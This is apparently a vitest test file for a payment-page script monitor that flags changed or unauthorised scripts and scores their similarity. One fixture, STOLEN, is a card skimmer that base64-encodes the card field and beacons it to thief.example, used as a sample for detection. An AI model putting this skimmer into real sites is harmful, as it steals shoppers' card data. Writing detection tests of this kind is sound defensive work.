import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { productFiles } from '#engines/files/product-files.ts';
import type { TestHouse } from '#engines/testing/open-test-house.ts';
import { serveRooms } from '#web/testing/serve-rooms.ts';
import { authoriseScripts } from '../index.ts';
import { readOpenFindings } from '../read-overview.ts';
import { routes } from '../routes.tsx';
import { keyToken } from './key-token.ts';
import { likeness, pairChanged, sketchOf } from './likeness.ts';
import { type InventoryStage, openInventoryHouse, openInventoryStage, pageOf } from './testing/open-inventory-stage.ts';

const CART = `window.cart = { lines: [], add: function (id, count) { this.lines.push({ id: id, count: count }); this.show(); },
  show: function () { document.getElementById('count').textContent = String(this.lines.length); } };
  document.addEventListener('DOMContentLoaded', function () { window.cart.show(); });`;
const CONSENT = `(function (d) { var box = d.querySelector('.consent'); if (!box || localStorage.getItem('consent')) return;
  box.hidden = false; box.querySelector('button').onclick = function () { localStorage.setItem('consent', '1'); box.hidden = true; }; })(document);`;
const STOLEN = `${CART} document.forms[0].addEventListener('submit', function () { new Image().src = 'https://thief.example/i?' + btoa(document.forms[0].card.value); });`;

let house: TestHouse;
let stage: InventoryStage;
beforeAll(async () => {
  house = await openInventoryHouse();
});
afterAll(() => house[Symbol.asyncDispose]());
beforeEach(async () => {
  stage = await openInventoryStage(house);
});

const titles = async () => {
  const open = await house.state.inOrg(stage.scope.org, (db) => readOpenFindings(db, stage.scope.org, stage.shop));
  return open.filter(({ check_id }) => check_id === 'payment-scripts').map(({ severity, title }) => `${severity} ${title.split(':')[0]}`);
};
const inline = (...sources: readonly string[]) => pageOf(Object.fromEntries(sources.map((source, nth) => [`inline${nth}`, source])));
const changes = async () =>
  (await stage.entries('inspect.inventory-changed'))
    .flatMap((entry) => (entry as { changes: { kind: string; what: string; adds?: string[] }[] }).changes)
    .filter(({ kind }) => kind === 'script')
    .map(({ what, adds = [] }) => [what, ...adds].join(' '));

describe('a script in the page itself', () => {
  it('that has changed is told as changed, with what it now names and a diff, and keeps what was said of it', async () => {
    await stage.look(inline(CART, CONSENT));
    await authoriseScripts(stage.scope, { shop: stage.shop, reason: 'our own', owner: 'shop team' });
    await stage.look(inline(STOLEN, CONSENT));
    expect(await titles()).toEqual(['medium A script on the payment page has changed']);
    expect(await changes()).toEqual([expect.stringContaining('changed host:thief.example')]);
    const [[key, standing] = ['', '']] = Object.entries(await stage.standings()).filter(([, one]) => one !== 'authorised');
    expect(standing).toBe('changed');
    expect(Object.keys(await stage.standings()), 'one changed, none gone').toHaveLength(2);
    const app = serveRooms(productFiles, () => stage.scope, { '/inspect': routes() });
    const html = await (await app.request(`/inspect/shops/${stage.shop}/scripts/${keyToken(key)}`)).text();
    expect(html).toContain('names the host thief.example');
    expect(html).toMatch(/<li class="added">.*?new Image\(\)\.src/s);
    await stage.look(inline(STOLEN, CONSENT));
    expect(await titles(), 'the next night it is still changed, once').toEqual(['medium A script on the payment page has changed']);
    await stage.look(inline(CART, CONSENT));
    expect(await titles(), 'as it was authorised').toEqual([]);
    await stage.look(inline(STOLEN, CONSENT));
    await authoriseScripts(stage.scope, { shop: stage.shop, items: [{ kind: 'script', key }], reason: 'looked at' });
    await stage.look(inline(STOLEN, CONSENT));
    expect(await titles()).toEqual([]);
  });

  it('that is another one is told as new, also where the old one stays; a look that was cut short changes no name', async () => {
    await stage.look(inline(CART));
    await authoriseScripts(stage.scope, { shop: stage.shop, reason: 'our own' });
    const other = "setInterval(function () { fetch('/track?p=' + location.pathname, { keepalive: true }); }, 30000);";
    await stage.look(inline(other));
    expect(await titles()).toEqual(['medium A script that nobody authorised runs on the payment page']);
    await stage.look(inline(CART, STOLEN));
    expect(await titles(), 'the old one is still there: this is one more').toEqual([
      'medium A script that nobody authorised runs on the payment page',
    ]);
    await stage.look({ ...inline(STOLEN), partial: 'it took too long' });
    expect(Object.values(await stage.standings()).sort()).toContain('authorised');
  });
});

describe('likeness', () => {
  it('is one for the same, high for a small change, none for another; numbers and white space do not count', () => {
    const [cart, stolen, consent] = [CART, STOLEN, CONSENT].map(sketchOf) as [readonly number[], readonly number[], readonly number[]];
    expect(likeness(cart, sketchOf(CART.replaceAll(' ', '\n  ')))).toBe(1);
    expect(likeness(sketchOf('a(1, 2); b(3)'), sketchOf('a(17, 28); b(39)'))).toBe(1);
    expect(likeness(cart, stolen)).toBeGreaterThan(0.4);
    expect(likeness(cart, consent)).toBeLessThan(0.2);
    expect(likeness([], cart)).toBe(0);
    const large = Array.from({ length: 4_000 }, (_, nth) => `function f${nth}(a) { return g${nth}(a + ${nth}); }`);
    const half = [...large.slice(0, 3_000), ...large.slice(0, 1_000).map((line) => line.replaceAll('f', 'other'))].join('\n');
    expect(likeness(sketchOf(large.join('\n')), sketchOf(half))).toBeGreaterThan(0.4);
  });

  it('pairs each once, the most alike first', () => {
    const of = (key: string, source: string, party = 'inline') => ({ key, party, sketch: sketchOf(source) });
    const found = pairChanged([of('x', STOLEN), of('y', CART.replace('show', 'draw'))], [of('a', CART), of('b', CONSENT)]);
    expect([...found].map(([key, was]) => `${key} ${was.key}`)).toEqual(['y a']);
    expect(pairChanged([of('x', CART, 'eval')], [of('a', CART)]).size).toBe(0);
  });

  it('of a megabyte costs little', () => {
    const started = performance.now();
    sketchOf('a=1;'.repeat(250_000));
    expect(performance.now() - started).toBeLessThan(4_000);
  });
});
